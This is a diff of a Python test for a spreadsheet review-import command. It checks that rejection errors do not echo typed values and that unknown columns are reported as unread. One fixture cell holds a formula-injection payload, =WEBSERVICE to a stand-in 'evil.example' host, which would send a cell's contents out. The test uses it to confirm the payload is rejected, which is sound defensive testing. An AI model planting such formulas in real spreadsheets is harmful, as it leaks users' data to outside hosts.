@@ -322,12 +322,14 @@ def test_cross_field_failures_name_the_rule_not_the_dates(store, pending, tmp_pa
 
 def test_cli_rejections_hold_no_typed_value(store, pending, tmp_path):
     sheet, [row] = _exported(store, tmp_path)
+    row["memo"] = "電話で確認済み"  # a column the reviewer added: said, not read
     row["customer_contact.phone"] = TYPED
     row["remarks"] = "=WEBSERVICE(\"http://evil.example/\"&B2)"
     write_rows(sheet, [row])
     r = desk("import-review", str(sheet), "--reviewer", "tanaka", db=store.path)
     err = r.stderr.decode()
     assert r.returncode == 1 and "[invalid_value]" in err and "[formula]" in err
+    assert "not part of the review sheet and were not read: memo" in err and "電話" not in err
     assert "山田" not in err and "1111" not in err and "evil" not in err and "WEBSERVICE" not in err
 
 
